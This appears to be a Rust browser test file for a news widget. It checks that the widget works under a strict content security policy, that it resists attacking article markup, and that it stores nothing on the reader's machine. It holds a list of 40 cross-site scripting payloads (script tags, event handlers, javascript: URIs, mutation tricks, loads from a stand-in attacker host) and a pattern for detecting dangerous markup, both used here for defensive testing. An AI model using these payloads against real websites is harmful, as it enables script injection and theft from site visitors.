//! What gets in and what gets out: the strictest policy under which the widget works, articles that attack, and no
//! trace left on the reader's machine. The same attacks, without a browser: `tests/parse/attacks.rs`.

use crate::page::Page;
use crate::server::{Files, Server};
use crate::stage::{dist, host, on_stage};
use serde_json::json;

/// Records what a policy has blocked, from before anything else runs.
const VIOLATIONS: &str = "window.violations = [];
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
        violations.push(`${violatedDirective} ${blockedURI}`), true);";

#[test]
fn the_strictest_policy() {
    let cdn = Server::start(dist(), Files::new());
    let page =
        std::fs::read_to_string("tests/hosts/policy.html").unwrap().replace("CDN", &cdn.url(""));
    let article = "<article><h1>Ferry opens</h1><figure><img src=ferry.png alt='A ferry'></figure>\
        <p>“It took nine years,” said Mayor Ada Moor.</p></article>";
    let files = Files::from([
        ("/host.html".to_owned(), page.into_bytes()),
        ("/ferry.html".to_owned(), article.into()),
        ("/ferry.png".to_owned(), Vec::new()),
    ]);
    on_stage(files, async |page| {
        page.before_all(VIOLATIONS);
        page.open("/host.html").await;
        page.until_ready().await;
        assert_eq!(page.eval("$('[part=timeline]').ariaLabel").await, "Wer hat was gesagt?");
        assert_eq!(page.eval("getComputedStyle($('.lane')).display").await, "grid", "styles");
        page.eval("$('[part=mark]').click()").await;
        page.until("the card", "$('blockquote').textContent.includes('nine years')").await;
        page.eval("$('input').focus()").await;
        page.write("years").await;
        page.until("the list", "$('[role=option]')").await;
        let at =
            "$('[part=mark]').getBoundingClientRect().x - $('.track').getBoundingClientRect().x";
        assert_eq!(page.eval(&format!("Number.isFinite({at})")).await, true);
        assert_eq!(page.eval("violations").await, json!([]));
    });
}

/// Markup that runs code wherever it is inserted unescaped. It tries to call `hit()`.
const ATTACKS: [&str; 40] = [
    "<script>hit()</script>",
    "<SCRIPT SRC=//attack.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<img src=x:x onerror\n=\nhit()>",
    "<img/src=x/onerror=hit()>",
    "<image src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "<math href=javascript:hit()>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><img src=x onerror=hit()></template>",
    "<textarea><img title='</textarea><img src=x onerror=hit()>'>",
    "<title><img title='</title><img src=x onerror=hit()>'>",
    "<style>@import '//attack.example/x.css'; * { background: url(//attack.example/x) }</style>",
    "<p style='background: url(//attack.example/x); position: fixed; inset: 0'>x</p>",
    "<link rel=stylesheet href=//attack.example/x.css>",
    "<base href=//attack.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<form action=javascript:hit()><button formaction=javascript:hit() id=submit>x</button></form>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<a href=javascript:hit()>x</a>",
    "<a href=' \u{1}java\tscr\nipt:hit()'>x</a>",
    "<a href='&#106;avascript&colon;hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href=vbscript:hit()>x</a>",
    "<a id=body name=cookie href='#x'>x</a><p id=getElementById>x</p>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
];

/// Elements in the widget that it never makes, or with an attribute that it never sets. Of styles, it sets numbers alone.
const STRANGE: &str = "$$('*').filter((it) =>
    !['div', 'section', 'header', 'footer', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'ol', 'ul', 'li', 'b', 'bdi', 'i', 'span',
      'small', 'button', 'input', 'svg', 'circle', 'path', 'time', 'a', 'em', 'strong', 'figure', 'figcaption', 'img',
      'blockquote', 'mark', 'slot', 'label', 'dl', 'dt', 'dd', 'kbd'].includes(it.localName)
    || [...it.attributes].some(({ name }) => /^(on|srcdoc|form|name$|background|ping|target)/.test(name))
    || !/^(--[a-z]+: [\\d.e-]+;? ?)*$/.test(it.getAttribute('style') ?? '')
    || it.matches('.story [id]')
    || /^(?!https?:|mailto:|tel:)/.test(it.href?.baseVal || it.href || 'http:')
    || /^(?!https?:)/.test(it.src || 'http:')
  ).map((it) => it.outerHTML.slice(0, 200))";

async fn unharmed(page: &Page, how: &str) {
    page.until("the widget", "element.state === 'ready'").await;
    // Gives what loads late or fails late its chance, and focuses what waits for the focus.
    page.eval("$$('.story a, .story img').forEach((it) => { it.dispatchEvent(new Event('error')); it.focus?.(); })").await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_eq!(page.eval("window.hits").await, 0, "{how}");
    assert_eq!(page.eval(STRANGE).await, json!([]), "{how}");
    let asked = "performance.getEntriesByType('resource').filter(({ name }) => name.includes('attack.example')).length";
    assert_eq!(page.eval(asked).await, 0, "{how}");
    assert_eq!(page.eval("document.title").await, "Host", "{how}");
    assert_eq!(
        page.eval("$('.story').textContent.includes('It ended well.')").await,
        true,
        "{how}"
    );
}

#[test]
fn articles_that_attack() {
    let harm = "<script>window.hits = 0; window.hit = () => window.hits++;</script>";
    let page = host("none.txt").replacen("<title>", &format!("{harm}<title>"), 1);
    let text = |attack: &str| {
        format!(
            "<article><h1>Ferry opens</h1><p>Before.</p>{attack}<p>It ended well.</p></article>"
        )
    };
    // Each on its own, since one may hide the next; then as text inside JSON.
    let mut files: Files = ATTACKS
        .iter()
        .enumerate()
        .map(|(idx, attack)| (format!("/attack-{idx}.html"), text(attack).into_bytes()))
        .collect();
    files.insert("/host.html".to_owned(), page.into_bytes());
    files.insert("/x".to_owned(), Vec::new());
    on_stage(files, async |page| {
        page.open("/host.html").await;
        page.until("the script", "element?.state === 'error'").await;
        for (idx, attack) in ATTACKS.iter().enumerate() {
            page.eval(&format!("(element.src = 'attack-{idx}.html', element.ready.then(() => 0))"))
                .await;
            // Some swallow everything up to the last paragraph, as they do in any browser.
            if leaves_open(attack) {
                page.until("an answer", "element.state !== 'loading'").await;
                assert_eq!(page.eval("window.hits").await, 0, "{attack}");
                assert_eq!(page.eval(STRANGE).await, json!([]), "{attack}");
            } else {
                unharmed(page, attack).await;
            }
            let json = json!({ "headline": "Ferry opens", "body_html": text(attack), "version": "1", "uri": "x" });
            page.eval(&format!("(element.data = {json}, element.ready.then(() => 0, () => 0))"))
                .await;
            page.until("an answer", "element.state !== 'loading'").await;
            assert_eq!(page.eval("window.hits").await, 0, "in JSON: {attack}");
            assert_eq!(page.eval(STRANGE).await, json!([]), "in JSON: {attack}");
            page.eval("(element.data = undefined, 0)").await;
        }
    });
}

/// Whether an attack leaves an element open that turns the rest into text.
fn leaves_open(attack: &str) -> bool {
    [
        "<math><mtext>",
        "<noscript",
        "<template",
        "<textarea",
        "<title",
        "<svg",
        "<scr<",
        "<style",
        "<!--",
        "<![CDATA",
        "<iframe",
        "<object",
        "<video",
        "<audio",
        "<form",
        "<details",
    ]
    .iter()
    .any(|start| attack.starts_with(start))
}

#[test]
fn no_trace_stays_on_the_readers_machine() {
    on_stage(Files::new(), async |page| {
        page.open("/").await;
        page.until_ready().await;
        page.eval("$('input').focus()").await;
        page.write("innovation").await;
        page.until("a match", "$('[part=count]').textContent.startsWith('1 ')").await;
        page.eval("(async () => (window.kept = [document.cookie, localStorage.length, sessionStorage.length,
            (await indexedDB.databases()).length, (await caches.keys()).length,
            (await navigator.serviceWorker.getRegistrations()).length]))()").await;
        page.until("what is kept", "window.kept").await;
        assert_eq!(page.eval("kept").await, json!(["", 0, 0, 0, 0, 0]));
    });
}
